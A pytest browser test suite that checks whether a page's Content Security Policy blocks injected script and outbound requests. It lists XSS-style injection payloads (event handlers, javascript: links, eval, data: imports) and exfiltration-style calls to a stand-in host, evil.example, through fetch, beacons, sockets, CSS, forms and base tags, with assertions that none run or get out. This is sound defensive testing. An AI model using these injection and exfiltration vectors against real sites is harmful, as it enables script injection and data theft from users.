"""The page's policy, tried: whatever got past every escape would still not run, and not get out."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from conftest import Visit

pytestmark = pytest.mark.browser

_SEEN = "() => Promise.race([refusal, new Promise((_, no) => setTimeout(no, 9000, 'nothing was refused'))])"
_WATCH = """() => {
    window.refusal = new Promise((told) => addEventListener('securitypolicyviolation', () => told(null)));
}"""


def _put(markup: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', '{markup}')"


# Each puts into the page what an attacker would, as if an escape had failed.
ATTACKS = {
    "script": "s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)",
    "handler": _put('<img src=x: onerror="window.ran = 1">'),
    "link": _put('<a id=l href="javascript:window.ran=1">x</a>') + "; l.click()",
    "eval": "try { window.eval('window.ran = 1') } catch { /* refused */ }",
    "function": "try { new Function('window.ran = 1')() } catch { /* refused */ }",
    "timer": "try { setTimeout('window.ran = 1') } catch { /* refused */ }",
    "import": "import('data:text/javascript,window.ran=1').catch(() => null)",
    "worker": "try { new Worker('data:text/javascript,postMessage(1)') } catch { /* refused */ }",
    "fetch": "fetch('https://evil.example/a').catch(() => null)",
    "beacon": "navigator.sendBeacon('https://evil.example/a', 'x')",
    "socket": "try { new WebSocket('wss://evil.example/a') } catch { /* refused */ }",
    "image": _put('<img src="https://evil.example/a.png">'),
    "style": _put('<p style="background:url(https://evil.example/a)">x</p>'),
    "font": _put("<style>@font-face{font-family:q;src:url(https://evil.example/f)}p{font-family:q}</style>"),
    "frame": _put('<iframe src="https://evil.example/"></iframe>'),
    "object": _put('<object data="https://evil.example/a"></object>'),
    "base": "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://evil.example/\">')",
    "form": _put('<form id=f action="https://evil.example/a"></form>') + "; f.submit()",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_runs_and_nothing_gets_out(visit: Callable[..., Visit], page_file: Path, attack: str) -> None:
    page = visit(page_file, "#v=1&lg=en").page
    sent: list[str] = []
    page.route("**://evil.example/**", lambda route: (sent.append(route.request.url), route.abort()))
    page.evaluate(_WATCH)
    page.evaluate(f"() => {{ setTimeout(() => {{ {attack} }}) }}")  # in the page's own time, not the driver's
    page.evaluate(_SEEN)
    assert page.evaluate("() => window.ran ?? null") is None
    assert page.evaluate("() => document.baseURI").startswith("file:")
    assert sent == []
